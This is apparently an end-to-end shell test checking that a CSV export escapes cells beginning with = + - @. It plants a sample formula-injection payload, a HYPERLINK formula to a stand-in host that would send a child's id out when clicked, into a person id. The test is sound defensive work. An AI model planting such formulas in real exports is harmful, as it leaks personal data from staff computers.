#!/bin/sh
# `kizuki export` writes CSV "Excel opens as it is". A person id in the PF
# extract (or a rule's reason) that begins with '=' -- here
# =HYPERLINK("http://x.invalid/"&A1,"詳細") -- lands as a cell of its own
# (対象, キー); Excel runs it as a formula on the staff's PC (quoting does
# not stop it): a click sends the neighbouring cell -- a child's id -- away.
# Expected: every cell beginning with = + - @ is written with a leading '.
. tests/e2e/red/lib.sh
city 300 7
night "$T/c.db" "$T/t0.db" 2024-10-01
kid=$(sqlite3 "$T/t0.db" "SELECT subject FROM tasks WHERE rule='child.not_seen' LIMIT 1")
bad='=HYPERLINK("http://x.invalid/"&A1,"詳細")'
sqlite3 "$T/c.db" "UPDATE persons SET id='$(echo "$bad" | sed "s/'/''/g")' WHERE id='$kid';
                   UPDATE members SET person_id=(SELECT id FROM persons WHERE id LIKE '=HYPER%') WHERE person_id='$kid'"
night "$T/c.db" "$T/t.db" 2024-10-01
"$KIZUKI" export --tasks "$T/t.db" --out "$T/x.csv" >/dev/null
# a cell that begins with '=' (after the comma, inside or outside quotes)
n=$(grep -a -c -E '(^|,)"?[=+@-]' "$T/x.csv" || true)
[ "$n" -eq 0 ] || lose "export: $n row(s) with a cell that Excel runs as a formula: $(grep -a -o -E '(^|,)"?[=+@-][^,]{0,30}' "$T/x.csv" | head -2 | tr '\n' ' ')"
finish
